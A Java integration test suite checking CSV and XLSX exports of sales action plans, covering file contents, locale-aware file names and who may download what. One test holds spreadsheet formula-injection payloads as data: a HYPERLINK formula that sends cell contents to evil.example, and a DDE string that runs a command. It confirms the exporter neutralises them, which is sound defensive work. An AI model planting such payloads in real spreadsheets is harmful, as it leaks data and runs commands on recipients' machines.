package io.mutua.integration;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;

import com.icegreen.greenmail.util.GreenMail;
import io.mutua.IntegrationTest;
import io.mutua.TestData;
import io.mutua.collaboration.BuyerClient;
import io.mutua.collaboration.Inbox;
import io.mutua.collaboration.MutualPlanFixtures;
import io.mutua.collaboration.ParticipantView;
import io.mutua.collaboration.Participants;
import io.mutua.identity.SignIn;
import io.mutua.plans.MilestoneView;
import io.mutua.plans.NewStep;
import io.mutua.plans.PlanService;
import io.mutua.plans.PlanView;
import io.mutua.plans.StepView;
import io.mutua.playbooks.Side;
import io.mutua.playbooks.Visibility;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.List;
import java.util.Objects;
import java.util.stream.Collectors;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DateUtil;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Value;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.test.web.servlet.MockMvc;

/**
 * The plan as CSV and XLSX from the export menus: what the files hold, read back with Commons CSV and Apache POI,
 * and who gets what — buyers only ever the shared part of their own plans.
 */
@IntegrationTest
class SpreadsheetExportIntegrationTest {

    private static final String XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

    @Autowired
    MockMvc mvc;
    @Autowired
    GreenMail mailServer;
    @Autowired
    TestData data;
    @Autowired
    PlanService plans;
    @Autowired
    Participants participants;
    @Autowired
    MutualPlanFixtures fixtures;
    @Autowired
    SpreadsheetFixtures spreadsheets;
    @Value("${mutua.time-zone}")
    ZoneId zone;

    @Test
    void theWorkbookReadBackWithPoiIsThePlanStepByStep() throws Exception {
        MutualPlanFixtures.Fixture fixture = spreadsheets.workedPlan();
        MockHttpServletResponse response = seller(fixture, fixture.sellerPath() + "/export.xlsx?internal=true");

        assertThat(response.getStatus()).isEqualTo(200);
        assertThat(response.getContentType()).isEqualTo(XLSX);
        assertThat(response.getHeader("Content-Disposition")).startsWith("attachment;")
                .contains("filename*=UTF-8''Account%20" + fixture.tag() + "%20%E2%80%93%20mutual%20action%20plan.xlsx");
        assertThat(response.getHeader("X-Content-Type-Options")).isEqualTo("nosniff");

        PlanView plan = plans.get(fixture.viewer(), fixture.planId());
        try (XSSFWorkbook workbook = Sheets.workbook(response.getContentAsByteArray())) {
            XSSFSheet sheet = workbook.getSheetAt(0);
            assertThat(sheet.getSheetName()).isEqualTo("Account " + fixture.tag());
            Row header = sheet.getRow(0);
            assertThat(cells(header)).containsExactly("milestone", "step", "side", "owners", "target date",
                    "baseline date", "status", "completed on", "notes", "visibility");
            assertThat(workbook.getFontAt(header.getCell(0).getCellStyle().getFontIndex()).getBold()).isTrue();
            assertThat(sheet.getPaneInformation().isFreezePane()).isTrue();
            assertThat(sheet.getPaneInformation().getHorizontalSplitPosition()).isEqualTo((short) 1);
            assertThat(sheet.getCTWorksheet().getAutoFilter().getRef()).startsWith("A1:J");
            assertThat(sheet.getColumnWidth(8)).isGreaterThan(sheet.getColumnWidth(2));

            List<List<Object>> expected = new ArrayList<>();
            for (MilestoneView milestone : plan.milestones()) {
                if (milestone.steps().isEmpty()) {
                    expected.add(List.of(milestone.title(), "", "", "", "", "", "", "", "", ""));
                }
                for (StepView step : milestone.steps()) {
                    expected.add(List.of(milestone.title(), step.title(), step.side().name(), owners(step),
                            step.targetDate(), step.baselineDate(), step.status().name(),
                            step.completedAt() == null ? "" : LocalDate.ofInstant(step.completedAt(), zone),
                            Objects.toString(step.description(), ""), step.visibility().name()));
                }
            }
            List<List<Object>> actual = new ArrayList<>();
            for (int r = 1; r <= sheet.getLastRowNum(); r++) {
                actual.add(typed(sheet.getRow(r)));
            }
            assertThat(actual).isEqualTo(expected);
            assertThat(actual).anySatisfy(row -> assertThat(row).contains(SpreadsheetFixtures.GREEK_NOTES, "DONE"))
                    .anySatisfy(row -> assertThat(row).contains(SpreadsheetFixtures.EMPTY_MILESTONE));
            assertThat(actual.stream().map(row -> row.get(3).toString()).collect(Collectors.joining("\n")))
                    .contains(fixture.rep().name() + " <" + fixture.rep().email() + ">",
                            fixture.mainContact().name() + " <" + fixture.mainContact().email() + ">", "role:CHAMPION");
        }
    }

    @Test
    void theCsvIsUtf8WithAByteOrderMarkCrlfAndTheSharedStepsInPlanOrder() throws Exception {
        MutualPlanFixtures.Fixture fixture = spreadsheets.workedPlan();
        MockHttpServletResponse response = seller(fixture, fixture.sellerPath() + "/export.csv");

        assertThat(response.getStatus()).isEqualTo(200);
        assertThat(response.getContentType()).isEqualTo("text/csv;charset=UTF-8");
        assertThat(response.getHeader("Content-Disposition")).startsWith("attachment;").contains(".csv");
        assertThat(response.getHeader("X-Content-Type-Options")).isEqualTo("nosniff");
        byte[] content = response.getContentAsByteArray();
        String text = new String(content, StandardCharsets.UTF_8);
        assertThat(text).contains("Εκπαίδευση χρηστών", SpreadsheetFixtures.NEW_MILESTONE);

        List<List<String>> rows = Sheets.csv(content);
        assertThat(text.split("\r\n", -1)).as("one CRLF per row; line breaks in notes stay inside their cell")
                .hasSize(rows.size() + 1);
        assertThat(rows.get(0)).containsExactly("milestone", "step", "side", "owners", "target date",
                "baseline date", "status", "completed on", "notes");
        PlanView plan = plans.get(fixture.viewer(), fixture.planId());
        List<String> sharedTitles = plan.steps().stream().filter(step -> step.visibility() == Visibility.SHARED)
                .map(StepView::title).toList();
        assertThat(rows.subList(1, rows.size()).stream().map(row -> row.get(1)).filter(title -> !title.isEmpty()))
                .containsExactlyElementsOf(sharedTitles);
        assertThat(rows).anySatisfy(row -> assertThat(row).containsExactly(SpreadsheetFixtures.NEW_MILESTONE,
                "Go-live", "SELLER", fixture.rep().name() + " <" + fixture.rep().email() + ">",
                LocalDate.now().plusMonths(3).with(java.time.DayOfWeek.WEDNESDAY).toString(),
                LocalDate.now().plusMonths(3).with(java.time.DayOfWeek.WEDNESDAY).toString(), "NOT_STARTED", "", ""));
    }

    @Test
    void aCellThatLooksLikeAFormulaIsNeverRun() throws Exception {
        MutualPlanFixtures.Fixture fixture = fixtures.mutualPlan();
        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
        plans.addStep(fixture.viewer(), fixture.planId(), new NewStep(fixture.plan().milestones().get(0).id(),
                formula, "+cmd|' /C calc'!A0", Side.SELLER, Visibility.SHARED, 2, null, List.of(), null));
        plans.addStep(fixture.viewer(), fixture.planId(), new NewStep(fixture.plan().milestones().get(0).id(),
                "@SUM(1+1)", "-2+3", Side.SELLER, Visibility.SHARED, 2, null, List.of(), null));

        List<List<String>> csv = Sheets.csv(seller(fixture, fixture.sellerPath() + "/export.csv")
                .getContentAsByteArray());
        assertThat(csv).anySatisfy(row -> assertThat(row).contains("'" + formula, "'+cmd|' /C calc'!A0"))
                .anySatisfy(row -> assertThat(row).contains("'@SUM(1+1)", "'-2+3"));
        assertThat(csv.stream().flatMap(List::stream)).noneMatch(cell -> cell.startsWith("=") || cell.startsWith("+")
                || cell.startsWith("-") || cell.startsWith("@"));

        byte[] xlsx = seller(fixture, fixture.sellerPath() + "/export.xlsx").getContentAsByteArray();
        try (XSSFWorkbook workbook = Sheets.workbook(xlsx)) {
            List<Cell> all = new ArrayList<>();
            workbook.getSheetAt(0).forEach(row -> row.forEach(all::add));
            assertThat(all).noneMatch(cell -> cell.getCellType() == CellType.FORMULA);
            assertThat(all).anySatisfy(cell -> {
                assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
                assertThat(cell.getStringCellValue()).isEqualTo(formula);
            });
        }
    }

    @Test
    void buyersGetOnlyTheSharedPartWhileASellerChoosesToIncludeInternalSteps() throws Exception {
        MutualPlanFixtures.Fixture fixture = fixtures.mutualPlan();
        MutualPlanFixtures.Internal internal = fixtures.seedInternal(fixture);
        BuyerClient buyer = signedIn(fixture, fixture.mainContact());

        for (String format : List.of("csv", "xlsx")) {
            MockHttpServletResponse export = buyer.get(fixture.buyerPath() + "/export." + format);
            assertThat(export.getStatus()).as(format).isEqualTo(200);
            assertThat(export.getHeader("Content-Disposition")).contains("Account%20" + fixture.tag());
            String text = everything(format, export.getContentAsByteArray());
            assertThat(text).as("a buyer's %s", format).doesNotContain(internal.secret())
                    .doesNotContain(fixture.deal().name()).doesNotContain("visibility").doesNotContain("INTERNAL")
                    .contains(fixture.sharedStep().title(), fixture.rep().name());
            assertThat(text).as("no email addresses of others in a buyer's export")
                    .doesNotContain(fixture.colleague().email(), fixture.rep().email());

            String shared = everything(format, seller(fixture, fixture.sellerPath() + "/export." + format)
                    .getContentAsByteArray());
            assertThat(shared).as("a seller's default %s", format).doesNotContain(internal.secret())
                    .doesNotContain("visibility");

            String all = everything(format, seller(fixture, fixture.sellerPath() + "/export." + format
                    + "?internal=true").getContentAsByteArray());
            assertThat(all).as("a seller's %s with internal steps", format)
                    .contains("Step " + internal.secret(), "Description " + internal.secret(),
                            "Milestone " + internal.secret(), "visibility", "INTERNAL", "SHARED");
        }
        assertThat(buyer.get(fixture.buyerPath() + "/export.csv?internal=true").getContentAsString())
                .doesNotContain(internal.secret());
    }

    @Test
    void aBuyerGetsNothingOfAnotherPlanNorTheSellersExports() throws Exception {
        MutualPlanFixtures.Fixture mine = fixtures.mutualPlan();
        MutualPlanFixtures.Fixture other = fixtures.mutualPlan();
        BuyerClient buyer = signedIn(mine, mine.colleague());

        assertThat(buyer.get(mine.buyerPath() + "/export.xlsx").getStatus()).isEqualTo(200);
        for (String path : List.of(other.buyerPath() + "/export.csv", other.buyerPath() + "/export.xlsx",
                mine.sellerPath() + "/export.csv", mine.sellerPath() + "/export.xlsx?internal=true",
                "/b/plans/" + java.util.UUID.randomUUID() + "/export.csv")) {
            MockHttpServletResponse response = buyer.get(path);
            assertThat(response.getStatus()).as(path).isEqualTo(404);
            assertThat(response.getContentAsString()).doesNotContain(mine.sharedStep().title());
        }
    }

    @Test
    void aSellerWhoDoesNotSeeTheDealGetsNotFound() throws Exception {
        MutualPlanFixtures.Fixture fixture = fixtures.mutualPlan();
        TestData.Seller stranger = data.user("REP", data.team("Elsewhere"));

        for (String path : List.of("/export.csv", "/export.xlsx", "/export.csv?internal=true")) {
            MockHttpServletResponse response = mvc.perform(get(fixture.sellerPath() + path)
                    .with(SignIn.as(stranger))).andReturn().getResponse();
            assertThat(response.getStatus()).as(path).isEqualTo(404);
            assertThat(response.getContentType()).startsWith("text/html");
        }
    }

    @Test
    void aGreekReaderGetsAGreekFileNameAndTheSameEnglishHeader() throws Exception {
        MutualPlanFixtures.Fixture fixture = spreadsheets.workedPlan();
        MockHttpServletResponse response = mvc.perform(get(fixture.sellerPath() + "/export.xlsx")
                .with(SignIn.as(fixture.rep())).locale(java.util.Locale.forLanguageTag("el")))
                .andReturn().getResponse();

        assertThat(response.getHeader("Content-Disposition"))
                .contains(java.net.URLEncoder.encode("κοινό πλάνο δράσης", StandardCharsets.UTF_8).replace("+", "%20"));
        List<List<String>> rows = Sheets.xlsx(response.getContentAsByteArray());
        assertThat(rows.get(0)).startsWith("milestone", "step", "side");
        assertThat(rows).anySatisfy(row -> assertThat(row).contains(SpreadsheetFixtures.GREEK_NOTES));
    }

    private MockHttpServletResponse seller(MutualPlanFixtures.Fixture fixture, String path) throws Exception {
        return mvc.perform(get(path).with(SignIn.as(fixture.rep()))).andReturn().getResponse();
    }

    private BuyerClient signedIn(MutualPlanFixtures.Fixture fixture, ParticipantView person) throws Exception {
        Inbox inbox = new Inbox(mailServer);
        int before = inbox.of(person.email()).size();
        participants.invite(fixture.viewer(), fixture.planId(), person.id());
        BuyerClient buyer = new BuyerClient(mvc);
        assertThat(buyer.signInWith(BuyerClient.linkIn(Inbox.body(inbox.await(person.email(), before + 1))))
                .getStatus()).isEqualTo(302);
        return buyer;
    }

    /** Every cell of an export as one text, to search it. */
    private static String everything(String format, byte[] content) {
        List<List<String>> rows = format.equals("csv") ? Sheets.csv(content) : Sheets.xlsx(content);
        return rows.stream().map(row -> String.join("\t", row)).collect(Collectors.joining("\n"));
    }

    private static String owners(StepView step) {
        return step.owners().stream().map(owner -> owner.person() ? owner.name() + " <" + owner.email() + ">"
                : "role:" + owner.role()).collect(Collectors.joining("; "));
    }

    private static List<String> cells(Row row) {
        List<String> cells = new ArrayList<>();
        row.forEach(cell -> cells.add(cell.getStringCellValue()));
        return cells;
    }

    /** A data row as typed values: dates only from date cells, text from text cells, "" for an empty cell. */
    private static List<Object> typed(Row row) {
        List<Object> values = new ArrayList<>();
        for (int i = 0; i < 10; i++) {
            Cell cell = row.getCell(i);
            if (cell == null) {
                values.add("");
            } else if (cell.getCellType() == CellType.NUMERIC && DateUtil.isCellDateFormatted(cell)) {
                assertThat(cell.getCellStyle().getDataFormatString()).isEqualTo("yyyy-mm-dd");
                values.add(cell.getLocalDateTimeCellValue().toLocalDate());
            } else {
                assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
                values.add(cell.getStringCellValue());
            }
        }
        return values;
    }
}
